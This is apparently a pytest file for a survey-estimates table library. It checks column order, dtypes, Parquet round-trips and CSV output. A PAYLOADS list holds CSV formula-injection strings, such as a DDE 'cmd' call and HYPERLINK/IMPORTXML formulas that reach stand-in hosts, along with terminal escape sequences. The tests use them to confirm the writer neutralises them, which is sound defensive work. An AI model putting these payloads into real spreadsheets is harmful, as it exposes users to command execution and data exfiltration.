"""The estimates table: fixed columns and dtypes, lossless Parquet, CSV that runs nothing."""

import csv
import io
import json

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sweep.errors import UsageError
from sweep.estimates import formats
from sweep.estimates import table as estimates
from sweep.estimates.select import select
from sweep.toolchain import table_writer
from sweep.words.columns import FLOATS

LEVELS = {"sex": ["Male", "Female"], "region": ["North", "East", "South"]}
VARIABLES = ["sex", "region"]

PAYLOADS = [
    '=HYPERLINK("http://evil.test","x")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r\n=1+1",
    "\n=1+1",
    "\tplain",
    "\r\nplain",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000@x",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    '" =1+1"',
    "'=1+1",
    "''@x",
    "\u201c=1+1\u201d",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " '\"\uff1dA1",
    "\ufe63cmd",
    '=IMPORTXML(CONCAT("http://x",A1),"//a")',
]


def row(outcome: str = "aided_aurora", **more: object) -> dict[str, object]:
    return {"outcome": outcome, "quantity": "probability", "status": "ok", "mean": 0.5, **more}


@pytest.fixture
def table() -> pd.DataFrame:
    groups: list[dict[str, str]] = [{}, {"group": "young_urban"}]
    groups += [{"region": level} for level in LEVELS["region"]]
    groups += [{"sex": s, "region": r} for s in LEVELS["sex"] for r in LEVELS["region"]]
    rows = [
        row(name, **g) for name in ("aided_aurora", "aided_birch", "trust_aurora") for g in groups
    ]
    failed = {"outcome": "trust_birch", "status": "failed", "flag": "nobody asked"}
    return estimates.tidy([*rows, failed], VARIABLES, LEVELS)


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_the_columns_come_in_the_published_order() -> None:
    expected = (
        "outcome label brand metric wave category quantity group sex region mean sd lower upper "
        "mcse mcse_lower mcse_upper ess_bulk ess_tail r_hat n share unseen_share raw weighted "
        "status flag"
    )

    assert expected.split() == estimates.columns(VARIABLES)


def test_without_a_weight_no_weighted_means_are_shown_and_with_one_they_are(
    table: pd.DataFrame,
) -> None:
    stored = table.assign(weighted=0.5)
    assert estimates.as_shown(stored, None)["weighted"].isna().all()
    pd.testing.assert_frame_equal(stored, estimates.as_shown(stored, "w"))


def test_a_variable_with_a_reserved_name_is_refused() -> None:
    with pytest.raises(ValueError, match="'share'"):
        estimates.columns(["sex", "share"])


def test_dtypes_do_not_depend_on_the_rows(table: pd.DataFrame) -> None:
    empty = estimates.tidy([], VARIABLES, LEVELS)

    assert len(empty) == 0
    assert list(table.dtypes) == list(empty.dtypes)
    assert str(empty["n"].dtype) == "Int64"
    assert all(str(empty[name].dtype) == "float64" for name in FLOATS)


def test_categories_are_in_config_order_and_sort_by_it(table: pd.DataFrame) -> None:
    assert list(table["region"].cat.categories) == ["North", "East", "South"]
    regional = table[table["region"].notna() & table["sex"].isna()].sort_values("region")
    assert list(dict.fromkeys(regional["region"])) == ["North", "East", "South"]


def test_an_undeclared_level_or_column_is_refused_not_nulled() -> None:
    with pytest.raises(ValueError, match="'West'"):
        estimates.tidy([row(region="West")], VARIABLES, LEVELS)
    with pytest.raises(ValueError, match="'regoin'"):
        estimates.tidy([row(regoin="North")], VARIABLES, LEVELS)


def test_parquet_gives_back_the_same_table_full_or_empty(table: pd.DataFrame) -> None:
    alone = table[table["outcome"] == "trust_birch"].reset_index(drop=True)
    for frame in (table, table.iloc[:0], alone):
        back = formats.from_parquet(formats.to_parquet(frame))
        pd.testing.assert_frame_equal(frame, back)


def test_parquet_tells_of_its_makers_only_what_a_recipe_names(table: pd.DataFrame) -> None:
    """Another version of pandas would else write other bytes under the same key."""
    data = formats.to_parquet(table)
    arrow = pq.read_schema(pa.BufferReader(data))
    told = json.loads(arrow.metadata[b"pandas"])
    assert {"attributes", "column_indexes", "columns", "index_columns"} == told.keys()
    assert pd.__version__.encode() not in data
    footer = pq.read_metadata(pa.BufferReader(data)).created_by
    assert f"parquet-cpp-arrow version {table_writer()}" == footer


def test_the_same_table_gives_the_same_bytes(table: pd.DataFrame) -> None:
    assert formats.to_parquet(table) == formats.to_parquet(table.copy())
    assert formats.to_csv(table) == formats.to_csv(table.copy())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_a_text_cell_is_written_inert(payload: str) -> None:
    levels = {"sex": [payload], "region": LEVELS["region"]}
    frame = estimates.tidy([row(payload, label=payload, sex=payload)], VARIABLES, levels)

    head, line = cells(formats.to_csv(frame))

    written = dict(zip(head, line, strict=True))
    assert {"'" + payload} == {written[name] for name in ("outcome", "label", "sex")}


def test_a_formula_in_a_column_name_is_written_inert() -> None:
    frame = estimates.tidy([row()], ["=1+1"], {"=1+1": ["a"]})

    assert "'=1+1" in cells(formats.to_csv(frame))[0]


def test_harmless_texts_and_negative_numbers_are_left_alone() -> None:
    labels = ["Nike", "it's", "'quoted'", "18-24", "a=b", 'say "hi", now', "two\nlines", "é @ home"]
    frame = estimates.tidy([row(label=x, mean=-0.25) for x in labels], VARIABLES, LEVELS)

    head, *lines = cells(formats.to_csv(frame))

    assert labels == [line[head.index("label")] for line in lines]
    assert {"-0.25"} == {line[head.index("mean")] for line in lines}


def test_csv_lines_end_as_rfc_4180_says_and_nulls_are_empty(table: pd.DataFrame) -> None:
    data = formats.to_csv(table)

    assert len(table) + 1 == data.count(b"\r\n")
    assert b"\n" not in data.replace(b"\r\n", b"")
    assert b"nan" not in data
    assert b"<NA>" not in data


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("\x1b[2J\x1b]0;mine\x07", r"\x1b[2J\x1b]0;mine\x07"),
        ("\x9b31mred", r"\x9b31mred"),
        ("good\rbad", r"good\rbad"),
        ("a\u202eb\x7f", r"a\u202eb\x7f"),
        ("\r=1+1", r"\r=1+1"),
        ("\x00=1+1", r"\x00=1+1"),
        ("two\r\nlines\tand a tab", "two\r\nlines\tand a tab"),
        ("Zürich \N{SLIGHTLY SMILING FACE}", "Zürich \N{SLIGHTLY SMILING FACE}"),
    ],
)
def test_what_a_terminal_obeys_is_spelt_out(text: str, written: str) -> None:
    levels = {"sex": [text], "region": LEVELS["region"]}
    frame = estimates.tidy([row(label=text, sex=text)], VARIABLES, levels)

    data = formats.to_csv(frame)

    head, line = cells(data)
    assert {written} == {line[head.index(name)] for name in ("label", "sex")}
    assert b"\x1b" not in data
    assert text == formats.from_parquet(formats.to_parquet(frame))["label"][0]


@given(st.text(st.characters(codec="utf-8"), min_size=1))
def test_removing_one_apostrophe_gives_any_text_back(text: str) -> None:
    frame = estimates.tidy([row(label=text)], [], {})

    head, line = cells(formats.to_csv(frame))

    written = line[head.index("label")]
    escaped = written.startswith("'") and formats._runs(written[1:])
    spelt = estimates.OBEYED.sub(lambda found: repr(found[0])[1:-1], text)
    assert spelt == (written[1:] if escaped else written)


def test_numbers_survive_csv_to_the_last_bit() -> None:
    frame = estimates.tidy([row(mean=0.1 + 0.2, sd=1 / 3, n=7)], VARIABLES, LEVELS)

    head, line = cells(formats.to_csv(frame))

    written = dict(zip(head, line, strict=True))
    assert (float(written["mean"]), float(written["sd"])) == (0.1 + 0.2, 1 / 3)
    assert written["n"] == "7"


def test_select_keeps_exactly_the_grouping_asked_for(table: pd.DataFrame) -> None:
    regional = select(table, by=["region"])
    crossed = select(table, by=["region", "sex"])

    assert len(regional) == 3 * 3
    assert regional["sex"].isna().all()
    assert len(crossed) == 3 * 6


def test_the_total_lists_outcomes_without_estimates_too(table: pd.DataFrame) -> None:
    total = select(table, by=[])

    assert list(total["outcome"]) == ["aided_aurora", "aided_birch", "trust_aurora", "trust_birch"]


def test_outcomes_are_chosen_by_name_or_glob(table: pd.DataFrame) -> None:
    aided = select(table, outcomes="aided_*")
    two = select(table, by=[], outcomes=["trust_aurora", "*_birch"])

    assert {"aided_aurora", "aided_birch"} == set(aided["outcome"])
    assert list(two["outcome"]) == ["aided_birch", "trust_aurora", "trust_birch"]


def test_a_named_group_is_chosen_by_its_name(table: pd.DataFrame) -> None:
    young = select(table, group="young_urban", outcomes="aided_*")

    assert list(young["outcome"]) == ["aided_aurora", "aided_birch"]


def test_selecting_from_an_empty_table_keeps_the_columns() -> None:
    empty = estimates.tidy([], VARIABLES, LEVELS)

    assert estimates.columns(VARIABLES) == list(select(empty, by=["region"]).columns)


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ({"by": ["regoin"]}, "no variable matches 'regoin'. Did you mean 'region'"),
        ({"by": "region"}, r"by=\['region'\]"),
        ({"by": ["sex"]}, "nothing is grouped by sex; groupings here: total; region; sex, region"),
        ({"outcomes": "aided_auror"}, "Did you mean 'aided_aurora'"),
        ({"outcomes": ["aided_*", "zzz*"]}, r"no outcome matches 'zzz\*'. There are: aided_aurora"),
        ({"group": "young_urbn"}, "Did you mean 'young_urban'"),
        ({"group": "young_urban", "by": []}, "choose one"),
    ],
)
def test_what_matches_nothing_is_an_error_that_says_what_is_there(
    table: pd.DataFrame, arguments: dict[str, object], message: str
) -> None:
    with pytest.raises(UsageError, match=message):
        select(table, **arguments)  # type: ignore[arg-type]  # one dict, many cases
